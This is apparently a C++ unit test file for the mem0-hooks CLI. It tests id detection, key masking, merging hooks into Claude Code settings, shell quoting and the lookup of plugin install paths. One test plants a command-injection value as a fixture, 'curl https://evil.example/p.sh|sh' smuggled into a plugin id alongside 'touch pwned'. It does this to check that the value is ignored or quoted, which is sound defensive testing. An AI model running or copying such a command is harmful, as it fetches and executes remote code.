// The pure helpers of the mem0-hooks CLI (docs/cli.md): id detection, short-id resolution, key
// masking, the Claude Code settings merge and the install paths.
#include "tests/unit/catch.hpp"
#include "tests/unit/test_support.hpp"

#include "cli/commands.hpp"
#include "cli/controls.hpp"
#include "cli/install.hpp"
#include "cli/mcp.hpp"
#include "cli/memories.hpp"
#include "mem0/identity.hpp"
#include "runtime/table.hpp"
#include "util/command_line.hpp"
#include "util/json.hpp"
#include "util/strings.hpp"

#include <rapidjson/document.h>
#include <rapidjson/stringbuffer.h>
#include <rapidjson/writer.h>

#include <cstdio>
#include <sstream>
#include <string>
#include <vector>

using namespace mem0;
using namespace mem0::cli;
using mem0::testing::canonical;

namespace {

const std::string k_ell = "\xE2\x80\xA6"; // U+2026 HORIZONTAL ELLIPSIS

const std::filesystem::path k_bin = "/opt/mem0/bin";

SessionState session_with(std::vector<std::string> injected) {
  SessionState s;
  s.injected = std::move(injected);
  return s;
}

// Claude Code settings with our hooks merged in (or removed), written in the POSIX form on every
// system: the cases of the Windows forms are install_test.cpp's [windows] ones.
std::string merged(std::string_view current, bool remove = false,
                   const std::filesystem::path &bin = k_bin) {
  const auto result =
      merge_hooks(current, claude_code(), rows_of(claude_code()), bin, remove, false);
  INFO("input: " << current);
  REQUIRE(result.has_value());
  return *result;
}

// The commands of every hook entry of `event` (all groups), in order.
std::vector<std::string> commands_of(const std::string &json, const char *event) {
  rapidjson::Document doc;
  doc.Parse(json.data(), json.size());
  std::vector<std::string> out;
  if (doc.HasParseError() || !doc.IsObject() || !doc.HasMember("hooks")) return out;
  const auto &hooks = doc["hooks"];
  if (!hooks.IsObject() || !hooks.HasMember(event)) return out;
  for (const auto &group : hooks[event].GetArray())
    for (const auto &hook : group["hooks"].GetArray())
      out.emplace_back(hook["command"].GetString());
  return out;
}

const char *const k_other_settings = R"json({
  "model": "opus",
  "permissions": {"allow": ["Bash(ls:*)"], "deny": []},
  "hooks": {
    "PreToolUse": [
      {"matcher": "Bash", "hooks": [{"type": "command", "command": "/usr/bin/guard"}]}
    ],
    "Stop": [
      {"hooks": [{"type": "command", "command": "/usr/bin/notify --done", "timeout": 3}]}
    ]
  },
  "env": {"FOO": "1"}
})json";

// The commands install adds to `event`, in table order, for executables in /opt/mem0/bin.
std::vector<std::string> ours(std::string_view event, const std::string &bin = "/opt/mem0/bin/") {
  std::vector<std::string> out;
  for (const HookSpec &h : hooks_of("claude-code"))
    if (h.event == event) out.push_back(bin + std::string(h.executable));
  return out;
}

std::vector<std::string> operator+(std::vector<std::string> a, const std::vector<std::string> &b) {
  a.insert(a.end(), b.begin(), b.end());
  return a;
}

} // namespace

TEST_CASE("cli: detect_id recognises a bare short id", "[cli][detect_id]") {
  const auto id = detect_id("abcd1234");
  REQUIRE(id);
  CHECK(id->hex == "abcd1234");
  CHECK_FALSE(id->is_uuid);

  const auto padded = detect_id("  0123abcd\n");
  REQUIRE(padded);
  CHECK(padded->hex == "0123abcd");
  CHECK_FALSE(padded->is_uuid);
}

TEST_CASE("cli: detect_id rejects near misses of a short id", "[cli][detect_id]") {
  CHECK_FALSE(detect_id("ABCD1234"));  // upper case is not a bare id
  CHECK_FALSE(detect_id("abcd123g"));  // not hex
  CHECK_FALSE(detect_id("abcd123"));   // 7 characters
  CHECK_FALSE(detect_id("abcd12345")); // 9 characters
  CHECK_FALSE(detect_id("stripe webhook retries"));
  CHECK_FALSE(detect_id("deadbeef is a word here"));
  CHECK_FALSE(detect_id(""));
}

TEST_CASE("cli: detect_id recognises a uuid", "[cli][detect_id]") {
  const std::string uuid = "abcd1234-bbbb-4bbb-8bbb-000000000002";
  const auto id = detect_id(uuid);
  REQUIRE(id);
  CHECK(id->hex == uuid);
  CHECK(id->is_uuid);

  CHECK_FALSE(detect_id("abcd1234-"));                            // nothing after the dash
  CHECK_FALSE(detect_id("abcd1234-bbbb-4bbb-8bbb-00000000000z")); // not hex
  CHECK_FALSE(detect_id("ABCD1234-BBBB-4BBB-8BBB-000000000002")); // upper case
  CHECK_FALSE(detect_id("abcd1234-bbbb and more words"));
}

TEST_CASE("cli: detect_id finds a citation anywhere in the text", "[cli][detect_id]") {
  const auto lower = detect_id("what about [mem0:abcd1234]?");
  REQUIRE(lower);
  CHECK(lower->hex == "abcd1234");
  CHECK_FALSE(lower->is_uuid);

  const auto upper = detect_id("see [mem0:ABCD12EF] for the decision");
  REQUIRE(upper);
  CHECK(upper->hex == "abcd12ef"); // lower-cased
  CHECK_FALSE(upper->is_uuid);

  const auto at_start = detect_id("[mem0:0123abcd] why?");
  REQUIRE(at_start);
  CHECK(at_start->hex == "0123abcd");

  const auto full = detect_id("cited as [mem0:ABCD1234-BBBB-4BBB-8BBB-000000000002]");
  REQUIRE(full);
  CHECK(full->hex == "abcd1234-bbbb-4bbb-8bbb-000000000002");
  CHECK(full->is_uuid);
}

TEST_CASE("cli: detect_id rejects malformed citations", "[cli][detect_id]") {
  CHECK_FALSE(detect_id("what about [mem0:abcd123]?"));  // 7 hex
  CHECK_FALSE(detect_id("what about [mem0:abcd123x]?")); // not hex
  CHECK_FALSE(detect_id("what about [mem0:]?"));
  CHECK_FALSE(detect_id("what about [mem0:abcd1234")); // never closed
  CHECK_FALSE(detect_id("what about mem0:abcd1234 without brackets"));
}

TEST_CASE("cli: resolve_short_id finds the one injected id it prefixes", "[cli][resolve]") {
  const std::string a = "abcd1234-bbbb-4bbb-8bbb-000000000002";
  const std::string b = "11111111-aaaa-4aaa-8aaa-000000000001";
  const std::vector<SessionState> sessions{session_with({b}), session_with({"x", a})};
  CHECK(resolve_short_id("abcd1234", sessions) == a);
  CHECK(resolve_short_id("11111111", sessions) == b);
}

TEST_CASE("cli: resolve_short_id accepts the same id in several sessions", "[cli][resolve]") {
  const std::string a = "abcd1234-bbbb-4bbb-8bbb-000000000002";
  CHECK(resolve_short_id("abcd1234", {session_with({a}), session_with({a})}) == a);
}

TEST_CASE("cli: resolve_short_id gives nothing when ambiguous or unknown", "[cli][resolve]") {
  const std::string a = "abcd1234-bbbb-4bbb-8bbb-000000000002";
  const std::string twin = "abcd1234-0000-4000-8000-0000000000ff";
  CHECK_FALSE(resolve_short_id("abcd1234", {session_with({a}), session_with({twin})}));
  CHECK_FALSE(resolve_short_id("abcd1234", {session_with({a, twin})}));
  CHECK_FALSE(resolve_short_id("ffffffff", {session_with({a})}));
  CHECK_FALSE(resolve_short_id("abcd1234", {}));
  CHECK_FALSE(resolve_short_id("abcd1234", {session_with({})}));
}

TEST_CASE("cli: mask_key shows the prefix and the last four characters", "[cli][mask]") {
  CHECK(mask_key("m0-abcdefghijklmnopwxyz") == "m0-" + k_ell + "wxyz");
  CHECK(mask_key("m0-123456789") == "m0-" + k_ell + "6789"); // 12 characters
  const std::string masked = mask_key("m0-secretsecretsecret1234");
  CHECK(masked.find("secret") == std::string::npos);
}

TEST_CASE("cli: mask_key reveals nothing of a short key", "[cli][mask]") {
  for (const char *key : {"m0-short", "abc", "", "m0-12345678"}) {
    INFO(key);
    const std::string masked = mask_key(key);
    CHECK(masked == k_ell);
  }
}

TEST_CASE("cli: merge_settings wires every hook of the table into an empty file", "[cli][merge]") {
  for (const char *empty : {"", "  \n", "{}"}) {
    INFO("input: '" << empty << "'");
    const std::string out = merged(empty);
    rapidjson::Document doc;
    doc.Parse(out.c_str());
    REQUIRE_FALSE(doc.HasParseError());
    REQUIRE(doc.IsObject());
    CHECK(doc.MemberCount() == 1);
    for (const HookSpec &h : hooks_of("claude-code")) {
      CAPTURE(h.executable, h.event);
      REQUIRE(doc["hooks"].HasMember(std::string(h.event).c_str()));
      bool found = false;
      for (const auto &group : doc["hooks"][std::string(h.event).c_str()].GetArray()) {
        const std::string matcher = group.HasMember("matcher") ? group["matcher"].GetString() : "";
        REQUIRE(group["hooks"].Size() == 1);
        const auto &hook = group["hooks"][0];
        if (std::string(hook["command"].GetString()) !=
            "/opt/mem0/bin/" + std::string(h.executable))
          continue;
        found = true;
        CHECK(matcher == h.matcher);
        CHECK(std::string(hook["type"].GetString()) == "command");
        CHECK(hook["timeout"].GetInt() == h.timeout_seconds);
      }
      CHECK(found);
    }
    CHECK(doc["hooks"]["UserPromptSubmit"][0]["hooks"][0]["timeout"].GetInt() == 8);
    CHECK(out.back() == '\n');
  }
}

TEST_CASE("cli: merge_settings is idempotent", "[cli][merge]") {
  for (const char *input : {"", "{}", "{\"model\":\"opus\"}", k_other_settings}) {
    INFO("input: " << input);
    const std::string once = merged(input);
    CHECK(merged(once) == once);
    CHECK(merged(merged(once)) == once);
    CHECK(commands_of(once, "UserPromptSubmit").size() == 1);
    CHECK(commands_of(once, "PreToolUse").size() ==
          commands_of(merged(input, true), "PreToolUse").size() + ours("PreToolUse").size());
  }
}

TEST_CASE("cli: merge_settings keeps other settings and hooks in place", "[cli][merge]") {
  const std::string out = merged(k_other_settings);
  rapidjson::Document doc;
  doc.Parse(out.c_str());
  REQUIRE(doc.IsObject());
  std::vector<std::string> keys;
  for (const auto &m : doc.GetObject())
    keys.emplace_back(m.name.GetString());
  CHECK(keys == std::vector<std::string>{"model", "permissions", "hooks", "env"});
  CHECK(std::string(doc["model"].GetString()) == "opus");
  CHECK(commands_of(out, "PreToolUse") ==
        std::vector<std::string>{"/usr/bin/guard"} + ours("PreToolUse"));
  CHECK(commands_of(out, "Stop") ==
        std::vector<std::string>{"/usr/bin/notify --done"} + ours("Stop"));
  CHECK(commands_of(out, "UserPromptSubmit") ==
        std::vector<std::string>{"/opt/mem0/bin/on_user_prompt"});
  CHECK(doc["hooks"]["Stop"][0]["hooks"][0]["timeout"].GetInt() == 3);
}

TEST_CASE("cli: removing after installing restores the original structure", "[cli][merge]") {
  for (const char *input : {"{}", "{\"model\":\"opus\"}", k_other_settings,
                            R"({"hooks":{"PreToolUse":[{"matcher":"Read","hooks":[
                                 {"type":"command","command":"/usr/bin/audit"}]}]}})"}) {
    INFO("input: " << input);
    const std::string installed = merged(input);
    CHECK(canonical(merged(installed, true)) == canonical(input));
  }
}

TEST_CASE("cli: removing drops only our entries", "[cli][merge]") {
  const std::string shared = R"({"hooks":{"PreToolUse":[{"matcher":"Read","hooks":[
      {"type":"command","command":"/usr/bin/audit"},
      {"type":"command","command":"/somewhere/else/on_file_read","timeout":6}]}],
    "UserPromptSubmit":[{"hooks":[{"type":"command","command":"/x/on_user_prompt --debug"}]}],
    "Stop":[{"hooks":[]}]}})";
  const std::string out = merged(shared, true);
  CHECK(canonical(out) == canonical(R"({"hooks":{"PreToolUse":[{"matcher":"Read","hooks":[
            {"type":"command","command":"/usr/bin/audit"}]}],"Stop":[{"hooks":[]}]}})"));
}

TEST_CASE("cli: only our programs count as ours", "[cli][merge]") {
  const std::string lookalikes = R"({"hooks":{"PreToolUse":[{"matcher":"Read","hooks":[
      {"type":"command","command":"/usr/bin/on_file_read_audit"},
      {"type":"command","command":"/usr/bin/guard on_file_read"},
      {"type":"command","command":"/usr/bin/on_user_prompt.sh"},
      {"type":"command"},
      {"type":"command","command":42}]}]}})";
  CHECK(canonical(merged(lookalikes, true)) == canonical(lookalikes));
  // Installing keeps them and adds ours in a group of its own.
  const std::string named = R"({"hooks":{"PreToolUse":[{"matcher":"Read","hooks":[
      {"type":"command","command":"/usr/bin/on_file_read_audit"},
      {"type":"command","command":"/usr/bin/guard on_file_read"},
      {"type":"command","command":"/usr/bin/on_user_prompt.sh"}]}]}})";
  CHECK(commands_of(merged(named), "PreToolUse") ==
        std::vector<std::string>{"/usr/bin/on_file_read_audit", "/usr/bin/guard on_file_read",
                                 "/usr/bin/on_user_prompt.sh"} +
            ours("PreToolUse"));
}

TEST_CASE("cli: installing replaces an older installation", "[cli][merge]") {
  // Another install of ours: its directory holds mem0-hooks too.
  testing::TempDir old_place;
  testing::write_file(old_place / "mem0-hooks", "");
  const std::string dir = testing::backslashes_escaped(old_place.path().generic_string());
  const std::string old = R"({"hooks":{"UserPromptSubmit":[{"hooks":[
      {"type":"command","command":")" +
                          dir + R"(/on_user_prompt","timeout":30}]}],
    "PreToolUse":[{"matcher":"Read","hooks":[
      {"type":"command","command":")" +
                          dir + R"(/on_file_read","timeout":30}]}]}})";
  const std::string out = merged(old);
  CHECK(commands_of(out, "UserPromptSubmit") ==
        std::vector<std::string>{"/opt/mem0/bin/on_user_prompt"});
  CHECK(commands_of(out, "PreToolUse") == ours("PreToolUse"));
  CHECK(out.find(old_place.path().generic_string()) == std::string::npos);
}

TEST_CASE("cli: merge_settings refuses what is not a settings object", "[cli][merge]") {
  for (const char *bad : {"{\"model\": \"opus\",", "not json", "[1, 2]", "42", "\"text\"", "null",
                          "{\"hooks\": []}", "{\"hooks\": \"none\"}", "{} trailing"}) {
    INFO("input: " << bad);
    for (bool remove : {false, true}) {
      const auto result = merge_settings(bad, k_bin, remove);
      REQUIRE_FALSE(result.has_value());
      CHECK_FALSE(result.error().message.empty());
    }
  }
  CHECK(merge_settings("[1, 2]", k_bin, false).error().message == "not a JSON object");
  CHECK(merge_settings("{\"hooks\": []}", k_bin, false).error().message ==
        "\"hooks\" is not an object");
  CHECK(merge_settings("{", k_bin, false).error().message == "not valid JSON");
}

TEST_CASE("cli: a quoted command with spaces is still recognised as ours", "[cli][merge]") {
  const std::filesystem::path spaced = "/opt/my tools/bin";
  const std::string once = merged(k_other_settings, false, spaced);
  CHECK(commands_of(once, "UserPromptSubmit") ==
        std::vector<std::string>{"'/opt/my tools/bin/on_user_prompt'"});
  const std::string twice = merged(once, false, spaced);
  CHECK(twice == once);
  CHECK(canonical(merged(once, true, spaced)) == canonical(k_other_settings));
  // A re-install from another place replaces the quoted entries.
  CHECK(commands_of(merged(once), "PreToolUse") ==
        std::vector<std::string>{"/usr/bin/guard"} + ours("PreToolUse"));

  SECTION("double quotes, as a user may write them by hand") {
    const std::string by_hand = R"({"hooks":{"UserPromptSubmit":[{"hooks":[
      {"type":"command","command":"\"/opt/my tools/bin/on_user_prompt\"","timeout":8}]}]}})";
    CHECK(canonical(merged(by_hand, true)) == canonical("{}"));
  }
}

// install quotes a path holding a single quote as '...'\''...' (POSIX shell word); such an
// entry must still be recognised on re-install and uninstall.
TEST_CASE("cli: a command path with a single quote is still recognised as ours", "[cli][merge]") {
  const std::filesystem::path quoted = "/opt/it's/bin";
  const std::string once = merged("{}", false, quoted);
  CHECK(commands_of(once, "PreToolUse")[0] == R"('/opt/it'\''s/bin/on_file_read')");
  CHECK(merged(once, false, quoted) == once);
  CHECK(canonical(merged(once, true, quoted)) == canonical("{}"));
}

// [no-wine]: it runs /bin/sh, which a Windows program cannot (docs/windows.md#testing-under-wine).
TEST_CASE("shell_quote: a real sh reads every word back as it was", "[cli][merge][no-wine]") {
  for (const std::string word :
       {"/opt/plain/bin", "/opt/a{b,c}/bin", "/opt/new\nline", "it's", "$HOME", "`id`", "a b", "!x",
        "*", "~", "a\\b", "x=1", "#c", "", "\"q\""}) {
    CAPTURE(word);
    const std::string quoted = shell_quote(word);
    FILE *sh = ::popen(("printf %s " + quoted).c_str(), "r");
    REQUIRE(sh != nullptr);
    std::string back;
    char buffer[256];
    for (std::size_t n; (n = std::fread(buffer, 1, sizeof buffer, sh)) > 0;)
      back.append(buffer, n);
    CHECK(::pclose(sh) == 0);
    CHECK(back == word);
  }
  CHECK(shell_quote("/opt/plain/bin") == "/opt/plain/bin");
}

// Every command line we write quotes with one allow-list (shell_quote): a path with braces,
// commas, a newline or a `!` would otherwise be expanded or split by the shell.
TEST_CASE("cli: a path a shell would expand is quoted, and still recognised", "[cli][merge]") {
  for (const std::filesystem::path bin :
       {"/opt/a{b,c}/bin", "/opt/new\nline/bin", "/opt/bang!/bin", "/opt/x=1/bin"}) {
    CAPTURE(bin.string());
    const std::string once = merged("{}", false, bin);
    CHECK(commands_of(once, "UserPromptSubmit")[0] == "'" + bin.string() + "/on_user_prompt'");
    CHECK(merged(once, false, bin) == once);
    CHECK(canonical(merged(once, true, bin)) == canonical("{}"));
  }
}

// Unrelated settings stay untouched (docs/cli.md#install-and-uninstall), even an event that lists
// no hooks at all.
TEST_CASE("cli: an empty event of another tool is kept", "[cli][merge]") {
  const std::string input = R"({"hooks":{"Stop":[]}})";
  CHECK(canonical(merged(input, true)) == canonical(input));
  CHECK(commands_of(merged(input), "Stop") == ours("Stop"));
  // Once our Stop hook has joined it, the empty event cannot be told from one we created: it goes
  // with our entry, which leaves the same hooks (none) for Stop.
  CHECK(commands_of(merged(merged(input), true), "Stop").empty());
}

TEST_CASE("cli: settings_candidates lists the most specific file first", "[cli][settings]") {
  const auto candidates = settings_candidates("/home/someone/.claude", "/work/project");
  REQUIRE(candidates.size() == 3);
  CHECK(candidates[0].path == "/work/project/.claude/settings.local.json");
  CHECK(candidates[0].scope == "local");
  CHECK(candidates[1].path == "/work/project/.claude/settings.json");
  CHECK(candidates[1].scope == "project");
  CHECK(candidates[2].path == "/home/someone/.claude/settings.json");
  CHECK(candidates[2].scope == "user");
}

TEST_CASE("cli: count_of picks the singular for one", "[cli]") {
  CHECK(count_of(0, "result", "results") == "0 results");
  CHECK(count_of(1, "result", "results") == "1 result");
  CHECK(count_of(2, "memory", "memories") == "2 memories");
}

TEST_CASE("cli: k_plugin_name is the name in plugin.json", "[cli][install_paths]") {
  const auto text =
      testing::read_file(std::string(testing::k_source_dir) + "/.claude-plugin/plugin.json");
  rapidjson::Document doc;
  REQUIRE(parse_json(doc, text));
  CHECK(*string_member(doc, "name") == k_plugin_name);
}

TEST_CASE("cli: our_commands lists the commands of our entries only", "[cli][install_paths]") {
  std::set<std::string> expected;
  for (const HookSpec &h : hooks_of("claude-code"))
    expected.insert("/opt/mem0/bin/" + std::string(h.executable));
  CHECK(our_commands(merged(k_other_settings)) == expected);
  CHECK(our_commands(k_other_settings).empty());
  for (const char *bad : {"", "not json", "[]", R"({"hooks": []})", R"({"hooks": {"Stop": 1}})"})
    CHECK(our_commands(bad).empty());
  CHECK(command_executable("'/opt/my tools/on_stop' --flag") == "on_stop");
}

namespace {

// A HOME with Claude Code's files, and the project directory commands run in.
struct ClaudeHome {
  testing::TempDir home;
  std::filesystem::path project = home / "project";
  Config config;
  Environment env;

  ClaudeHome() {
    std::filesystem::create_directories(project);
    config.home = home.path();
  }
  std::filesystem::path user_settings() const { return home / ".claude" / "settings.json"; }
  std::filesystem::path project_settings() const { return project / ".claude" / "settings.json"; }
  std::filesystem::path local_settings() const {
    return project / ".claude" / "settings.local.json";
  }
  std::filesystem::path install_dir() const {
    return home / ".claude" / "plugins" / "cache" / "mkt" / "mem0-native-hooks" / "0.1.0";
  }
  // installed_plugins.json with `entries` (the JSON of the id's value) under `id`.
  void installed(const std::string &entries, const std::string &id = "mem0-native-hooks@mkt",
                 std::filesystem::path plugins = {}) {
    if (plugins.empty()) plugins = home / ".claude" / "plugins";
    testing::write_file(plugins / "installed_plugins.json",
                        R"({"version": 2, "plugins": {")" + id + "\": " + entries + "}}");
  }
  std::string user_entry() const {
    return R"([{"scope": "user", "installPath": ")" +
           testing::backslashes_escaped(install_dir().string()) + "\"}]";
  }
  std::vector<InstallPath> paths() const { return find_install_paths(config, env, project); }
};

std::string enabling(bool on, const std::string &id = "mem0-native-hooks@mkt") {
  return R"({"enabledPlugins": {")" + id + "\": " + (on ? "true" : "false") + "}}";
}

} // namespace

TEST_CASE("cli: find_install_paths finds nothing in a fresh home", "[cli][install_paths]") {
  ClaudeHome h;
  CHECK(h.paths().empty());
  CHECK(times_wired(h.paths()) == 0);
}

TEST_CASE("cli: settings files wiring the whole hook set are install paths",
          "[cli][install_paths]") {
  ClaudeHome h;
  testing::write_file(h.user_settings(), merged("{}"));
  auto paths = h.paths();
  REQUIRE(paths.size() == 1);
  CHECK(paths[0].kind == InstallPath::Kind::settings);
  CHECK(paths[0].where == h.user_settings().string());
  CHECK(paths[0].active);
  CHECK(describe(paths[0]) == "wired in " + h.user_settings().string());
  CHECK(removal(paths[0]) == "mem0-hooks uninstall --settings " + h.user_settings().string());
  CHECK(times_wired(paths) == 1);

  SECTION("the same commands in the project settings run once") {
    testing::write_file(h.project_settings(), merged("{}"));
    paths = h.paths();
    REQUIRE(paths.size() == 2);
    CHECK(paths[0].where == h.project_settings().string()); // most specific first
    CHECK(times_wired(paths) == 1);
  }
  SECTION("other commands in the local settings run a second time") {
    testing::write_file(h.local_settings(), merged("{}", false, "/elsewhere/bin"));
    CHECK(times_wired(h.paths()) == 2);
  }
  SECTION("a file missing one hook of the set is not an install path") {
    const std::string partial = std::string(R"({"hooks": {"UserPromptSubmit": [{"hooks": [)") +
                                R"({"type": "command", "command": "/b/on_user_prompt"}]}]}})";
    testing::write_file(h.project_settings(), partial);
    CHECK(h.paths().size() == 1);
  }
  SECTION("CLAUDE_CONFIG_DIR moves the user settings") {
    h.env.vars["CLAUDE_CONFIG_DIR"] = (h.home / "conf").string();
    CHECK(h.paths().empty());
    testing::write_file(h.home / "conf" / "settings.json", merged("{}"));
    REQUIRE(h.paths().size() == 1);
    CHECK(h.paths()[0].where == (h.home / "conf" / "settings.json").string());
  }
}

TEST_CASE("cli: a marketplace install is active where it applies and is enabled",
          "[cli][install_paths]") {
  ClaudeHome h;
  h.installed(h.user_entry());
  SECTION("installed but never enabled: listed, not active") {
    const auto paths = h.paths();
    REQUIRE(paths.size() == 1);
    CHECK(paths[0].kind == InstallPath::Kind::marketplace);
    CHECK_FALSE(paths[0].active);
    CHECK(describe(paths[0]) == "plugin mem0-native-hooks@mkt (marketplace, user scope) is "
                                "disabled: " +
                                    h.install_dir().string());
  }
  SECTION("enabled in the user settings") {
    testing::write_file(h.user_settings(), enabling(true));
    const auto paths = h.paths();
    REQUIRE(paths.size() == 1);
    CHECK(paths[0].active);
    CHECK(paths[0].here);
    CHECK(paths[0].scope == "user");
    CHECK(paths[0].dir == h.install_dir().string());
    CHECK(describe(paths[0]) ==
          "wired in plugin mem0-native-hooks@mkt (marketplace, user scope): " +
              h.install_dir().string());
    CHECK(removal(paths[0]) ==
          "claude plugin uninstall " + user_word("mem0-native-hooks@mkt") + " --scope user");
    CHECK(times_wired(paths) == 1);
  }
  SECTION("the most specific settings file decides") {
    testing::write_file(h.user_settings(), enabling(true));
    testing::write_file(h.local_settings(), enabling(false));
    REQUIRE(h.paths().size() == 1);
    CHECK_FALSE(h.paths()[0].active);
    testing::write_file(h.project_settings(), enabling(false));
    testing::write_file(h.local_settings(), enabling(true));
    CHECK(h.paths()[0].active);
  }
  SECTION("with settings wiring the hooks too, they run twice") {
    testing::write_file(h.user_settings(), merged(enabling(true)));
    const auto paths = h.paths();
    REQUIRE(paths.size() == 2);
    CHECK(paths[0].kind == InstallPath::Kind::settings);
    CHECK(times_wired(paths) == 2);
  }
  SECTION("the plugin root of the install is the install itself") {
    testing::write_file(h.user_settings(), enabling(true));
    h.env.vars["CLAUDE_PLUGIN_ROOT"] = h.install_dir().string() + "/";
    CHECK(h.paths().size() == 1);
    h.env.vars["CLAUDE_PLUGIN_ROOT"] = "/src/mem0 checkout";
    const auto paths = h.paths();
    REQUIRE(paths.size() == 2);
    CHECK(paths[0].kind == InstallPath::Kind::plugin_root);
    CHECK(describe(paths[0]) == "wired in plugin /src/mem0 checkout (CLAUDE_PLUGIN_ROOT)");
    const std::string quoted = "'/src/mem0 checkout'"; // as the user's shell reads it (user_word)
    CHECK(removal(paths[0]) == "start Claude Code without --plugin-dir " + quoted);
    CHECK(times_wired(paths) == 2);
  }
}

TEST_CASE("cli: project and local installs apply in their project", "[cli][install_paths]") {
  ClaudeHome h;
  const std::string other = (h.home / "other").string();
  h.installed(R"([{"scope": "project", "installPath": "/cache/p", "projectPath": ")" +
              testing::backslashes_escaped(other) +
              R"("}, {"scope": "local", "installPath": "/cache/p", "projectPath": ")" +
              testing::backslashes_escaped(h.project.string()) + "\"}]");
  testing::write_file(h.local_settings(), enabling(true));
  const auto paths = h.paths();
  REQUIRE(paths.size() == 2);
  CHECK_FALSE(paths[0].here);
  CHECK_FALSE(paths[0].active);
  CHECK(describe(paths[0]) ==
        "plugin mem0-native-hooks@mkt (marketplace, project scope in " + other + "): /cache/p");
  const std::string then = platform::windows_commands() ? ", then " : " && "; // no && in PS 5.1
  CHECK(removal(paths[0]) == "cd " + user_word(other) + then + "claude plugin uninstall " +
                                 user_word("mem0-native-hooks@mkt") + " --scope project");
  CHECK(paths[1].here);
  CHECK(paths[1].active);
  CHECK(paths[1].scope == "local");
}

TEST_CASE("cli: a plugin enabled but not installed is listed, not active", "[cli][install_paths]") {
  ClaudeHome h;
  testing::write_file(h.project_settings(), enabling(true, "mem0-native-hooks@team"));
  const auto paths = h.paths();
  REQUIRE(paths.size() == 1);
  CHECK_FALSE(paths[0].active);
  CHECK(paths[0].dir.empty());
  CHECK(describe(paths[0]) == "plugin mem0-native-hooks@team enabled in " +
                                  h.project_settings().string() + " but not installed");
  CHECK(removal(paths[0]) ==
        "claude plugin disable " + user_word("mem0-native-hooks@team") + " --scope project");
}

TEST_CASE("cli: a plugin id that is no plugin name is ignored, and what is printed is quoted",
          "[cli][install_paths]") {
  ClaudeHome h;
  // A repository's settings naming a plugin whose "marketplace" is a shell command: no install
  // path, so nothing to print and nothing to block an install.
  const std::string evil = "mem0-native-hooks@x; curl https://evil.example/p.sh|sh; #";
  testing::write_file(h.project_settings(), enabling(true, evil));
  CHECK(h.paths().empty());
  h.installed(h.user_entry(), evil);
  CHECK(h.paths().empty());
  // A scope read from installed_plugins.json is one quoted word of the command.
  h.installed(R"([{"scope": "user; touch pwned", "installPath": "/cache/p"}])");
  testing::write_file(h.user_settings(), enabling(true));
  const auto paths = h.paths();
  REQUIRE(paths.size() == 1);
  const std::string scope = user_word("user; touch pwned");
  CHECK(scope != "user; touch pwned");
  CHECK(removal(paths[0]) ==
        "claude plugin uninstall " + user_word("mem0-native-hooks@mkt") + " --scope " + scope);
}

TEST_CASE("cli: installed_plugins.json variants and lookalikes", "[cli][install_paths]") {
  ClaudeHome h;
  testing::write_file(h.user_settings(), enabling(true));
  SECTION("format 1: one object per id") {
    h.installed(R"({"version": "0.1.0", "installPath": "/cache/v1"})");
    REQUIRE(h.paths().size() == 1);
    CHECK(h.paths()[0].active);
    CHECK(h.paths()[0].scope == "user");
  }
  SECTION("CLAUDE_CODE_PLUGIN_CACHE_DIR moves the plugins directory") {
    h.env.vars["CLAUDE_CODE_PLUGIN_CACHE_DIR"] = (h.home / "plugins").string();
    h.installed(h.user_entry(), "mem0-native-hooks@mkt", h.home / "plugins");
    REQUIRE(h.paths().size() == 1);
    CHECK(h.paths()[0].active);
  }
  SECTION("the plugin from npm is ours") {
    testing::write_file(h.user_settings(), enabling(true, "mem0-native-hooks-npm@mkt"));
    h.installed(h.user_entry(), "mem0-native-hooks-npm@mkt");
    REQUIRE(h.paths().size() == 1);
    CHECK(h.paths()[0].active);
  }
  SECTION("other plugins are not ours") {
    testing::write_file(h.user_settings(), enabling(true, "mem0-native-hooks-extra@mkt"));
    h.installed(h.user_entry(), "mem0-native-hooks-extra@mkt");
    CHECK(h.paths().empty());
    h.installed(h.user_entry(), "mem0-native-hooks");
    CHECK(h.paths().empty());
  }
  SECTION("unreadable registries are no installs") {
    for (const char *bad : {"not json", "[]", R"({"plugins": []})"}) {
      testing::write_file(h.home / ".claude" / "plugins" / "installed_plugins.json", bad);
      const auto paths = h.paths();
      REQUIRE(paths.size() == 1); // only the enabling entry, not installed
      CHECK(paths[0].dir.empty());
    }
  }
}

// ---------------------------------------------------------------------------------------------
// doctor and the back-off (docs/cli.md#doctor, docs/failures.md#back-off)

namespace {

namespace mt = mem0::testing;
using Outcome = BackoffStore::Outcome;

// A CLI run in the hook fixture's isolated home, with the hooks wired into ~/.claude/settings.json
// so that a healthy doctor passes every check.
struct CliFixture {
  mt::HookFixture f;
  std::ostringstream out, err;
  std::filesystem::path exe_dir = f.home / "bin";

  CliFixture() {
    mt::write_file(f.home / ".claude/settings.json", merge_settings("{}", exe_dir, false).value());
    for (const HookSpec &h : k_hooks) // wired, present
      mt::write_file(program_path(exe_dir, h.executable, platform::windows_commands()), "");
  }

  int run(const std::vector<std::string> &argv) {
    out.str("");
    err.str("");
    return cli::run(argv, context());
  }
  CliContext context() {
    return CliContext{
        f.deps(), out, err, f.project, exe_dir, SteadyClock::now() + std::chrono::seconds(5), {}};
  }
  std::string server() const { return mt::server_of(f.config); }
  std::optional<BackoffStore::Pause> pause() const {
    return f.store().backoff.active_pause(f.now, server());
  }
  void pause_for(std::chrono::seconds how_long, const std::string &which = "") {
    auto store = f.store();
    REQUIRE(store.backoff
                .record_outcome(f.now, which.empty() ? server() : which, Outcome::rate_limited,
                                how_long)
                .has_value());
  }
  std::string text() const { return out.str(); }
  // The lines of the output that start with `name` as a doctor row.
  std::vector<std::string> rows(std::string_view name) const {
    std::vector<std::string> found;
    for (auto &line : mt::lines_of(out.str()))
      if (line.starts_with(std::string(name) + " ")) found.push_back(line);
    return found;
  }
};

// `name` padded to doctor's 12 columns, then `value`.
std::string row(std::string_view name, std::string_view value) {
  return std::string(name) + std::string(12 - name.size(), ' ') + std::string(value);
}

// A settings row: `name` indented by two and padded to 24 columns (the longest name of the table,
// `retention_session_days`, and two spaces), then `value`.
std::string setting_row(std::string_view name, std::string_view value) {
  return "  " + std::string(name) + std::string(24 - name.size(), ' ') + std::string(value);
}

const std::string k_reset_fix =
    "fix: wait until 2025-03-10 12:02:00 UTC, or run `mem0-hooks doctor --reset` to try again now";

} // namespace

TEST_CASE("doctor: a healthy platform set-up passes every check", "[cli][doctor]") {
  CliFixture c;
  CHECK(c.run({"doctor"}) == k_ok);
  CHECK(mt::has_line(c.text(), "all checks passed"));
  CHECK(c.rows("pause").empty());
  CHECK(c.rows("reset").empty());
